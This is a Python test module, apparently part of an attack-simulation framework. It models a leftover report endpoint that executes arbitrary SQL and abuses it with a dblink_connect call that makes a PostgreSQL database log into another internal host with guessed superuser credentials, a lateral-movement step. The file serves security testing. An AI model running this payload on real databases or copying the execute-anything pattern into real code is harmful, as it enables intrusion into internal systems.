"""F5: dblink has the database connect to where the app cannot."""

from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.techniques.abused import AbusedPsycopg, told


class ReachesOtherHost(AbusedPsycopg):
    """On psycopg: a page for reports that was left behind, and runs whatever it is given."""

    code = "F5"
    attack = "has the database connect to another machine by dblink"
    reference = "https://attack.mitre.org/techniques/T1210/"
    rule = "lateral-movement"

    def work(self) -> None:
        """Makes the usual report."""
        self._report("SELECT name, mail FROM customers ORDER BY id LIMIT 10")

    def meet(self) -> object:
        """Makes the attacker's."""
        return self._report("SELECT dblink_connect('host=10.0.0.5 user=postgres password=guess')")

    def _report(self, statement: str) -> list[list[str]]:
        with self.connected().cursor() as cursor:
            cursor.execute(statement)
            return told(cursor)

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """The database did it."""
        del service
        return got == [["0"]]
